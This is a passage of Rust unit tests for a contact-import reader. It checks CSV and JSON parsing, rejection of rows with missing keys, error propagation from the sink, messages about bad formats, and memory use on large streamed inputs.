        "email,Signup ID\na@example.com, 42 \nb@example.com,\n",
    )
    .expect("write");
    let mut options = options();
    options.key = KeySpec::Column("signup id".to_string());
    let mut records = Vec::new();
    read_source(&Source::File(path), &options, &mut |record| {
        if !matches!(record, Record::Header(_)) {
            records.push(record);
        }
        Ok(())
    })
    .expect("read");
    match records.first() {
        Some(Record::Contact(_, contact)) => assert_eq!(contact.key, "42"),
        other => panic!("expected a contact, got {other:?}"),
    }
    match records.get(1) {
        Some(Record::Reject(reject)) => assert_eq!(reject.reason, RejectReason::MissingKey),
        other => panic!("expected a reject, got {other:?}"),
    }
}

#[test]
fn sink_error_stops_the_read() {
    let mut seen = 0;
    let result = read_source(
        &Source::File(fixture("scenario_batch.csv")),
        &options(),
        &mut |_| {
            seen += 1;
            anyhow::bail!("stop here")
        },
    );
    assert_eq!(seen, 1);
    let message = result
        .err()
        .map(|error| error.to_string())
        .unwrap_or_default();
    assert_eq!(message, "stop here");
}

#[test]
fn sink_error_stops_json_read() {
    let mut seen = 0;
    let result = read_source(
        &Source::File(fixture("fmt_generic_contacts.json")),
        &options(),
        &mut |_| {
            seen += 1;
            anyhow::bail!("stop here")
        },
    );
    assert_eq!(seen, 1);
    let message = result
        .err()
        .map(|error| error.to_string())
        .unwrap_or_default();
    assert_eq!(message, "stop here");
}

#[test]
fn unknown_extension_suggests_format() {
    let error = read_bytes(b"email\n", "xlsx")
        .err()
        .expect("extension error");
    assert!(format!("{error:#}").contains("CSV UTF-8"), "{error:#}");
}

#[test]
fn empty_file_is_an_error() {
    let error = read_bytes(b"", "csv").err().expect("empty error");
    assert!(
        format!("{error:#}").contains("input.csv, line 1: the file is empty"),
        "{error:#}"
    );
}

/// Returns the peak resident set size of this process in KiB (Linux only).
fn peak_rss_kib() -> Option<u64> {
    let status = std::fs::read_to_string("/proc/self/status").ok()?;
    let line = status.lines().find(|line| line.starts_with("VmHWM:"))?;
    line.split_whitespace().nth(1)?.parse().ok()
}

/// Checks that memory stays flat on a large file. Ignored by default
/// because it writes about 60 MB per format; run with `--ignored`.
#[test]
#[ignore]
fn large_inputs_stream() {
    use std::io::Write;

    let dir = tempfile::tempdir().expect("temp dir");
    let rows = 600_000;
    let csv_path = dir.path().join("large.csv");
    let json_path = dir.path().join("large.json");
    let mut csv_file = std::io::BufWriter::new(std::fs::File::create(&csv_path).expect("create"));
    let mut json_file = std::io::BufWriter::new(std::fs::File::create(&json_path).expect("create"));
    writeln!(csv_file, "email,first_name,last_name,notes").expect("write");
    write!(json_file, "[").expect("write");
    for row in 0..rows {
        writeln!(
            csv_file,
            "user{row}@example.com,First{row},Last{row},some notes about contact number {row}"
        )
        .expect("write");
        let separator = if row == 0 { "" } else { "," };
        writeln!(
            json_file,
            "{separator}{{\"email\":\"user{row}@example.com\",\"first_name\":\"First{row}\",\
             \"notes\":\"some notes about contact number {row}\"}}"
        )
        .expect("write");
    }
    write!(json_file, "]").expect("write");
    csv_file.flush().expect("flush");
    json_file.flush().expect("flush");
    drop((csv_file, json_file));

    for path in [csv_path, json_path] {
        let before = peak_rss_kib().unwrap_or(0);
        let mut count = 0;
        read_source(&Source::File(path.clone()), &options(), &mut |record| {
            if let Record::Contact(..) = record {
                count += 1;
            }
            Ok(())
        })
        .expect("read");
        let growth = peak_rss_kib().unwrap_or(0).saturating_sub(before);
        assert_eq!(count, rows, "{}", path.display());
        assert!(
            growth < 20 * 1024,
            "{}: peak RSS grew by {growth} KiB",
            path.display()
        );
    }
}
